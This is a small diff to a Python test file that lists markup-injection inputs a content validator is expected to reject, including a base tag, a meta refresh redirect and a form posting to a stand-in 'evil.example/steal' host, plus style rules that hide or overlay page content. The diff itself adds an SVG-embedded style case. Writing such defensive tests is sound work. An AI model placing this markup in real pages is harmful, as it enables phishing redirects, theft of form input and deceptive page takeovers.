@@ -902,7 +902,9 @@ def test_a_coach_name_or_line_with_markup_stops(key, value):
     ('<base href="https://evil.example/">\n', "a <base>"),
     ('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', "a <meta>"),
     ('<form action="https://evil.example/steal"><input name="q"></form>\n', "a <form>"),
-    ("<style>.md-content{display:none}</style>\n", "a <style>"),
+    ("<style>.md-content{display:none}</style>\n", "a <style> in the page"),
+    ('<svg viewBox="0 0 1 1"><style>.hh-fig-body{fill:red}</style></svg>\n',
+     "a <style> in the page"),
     ('Text.\n{ style="position:fixed;inset:0;background:#fff" }\n', "a style that lifts <p>"),
     ('<div style="position: fixed; inset: 0">Win!</div>\n', "a style that lifts <div>"),
 ])
